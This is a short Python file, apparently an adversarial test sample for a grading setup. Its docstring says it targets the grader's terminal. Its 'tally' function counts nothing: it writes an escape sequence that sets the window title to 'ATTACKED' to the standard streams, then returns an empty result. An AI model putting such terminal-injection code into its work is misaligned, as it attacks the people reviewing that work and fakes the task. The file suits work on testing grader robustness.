"""aims at: the terminal of the person who grades, through the standard streams
cell: tally
worth: 0
"""

import os


def tally(items):
    for fd in range(256):
        try:
            if not os.path.samestat(os.fstat(fd), os.stat("/dev/null")):
                os.write(fd, b"\x1b]0;ATTACKED\x07ATTACKED\r\n") if fd < 3 else None
        except OSError:
            pass
    return {}
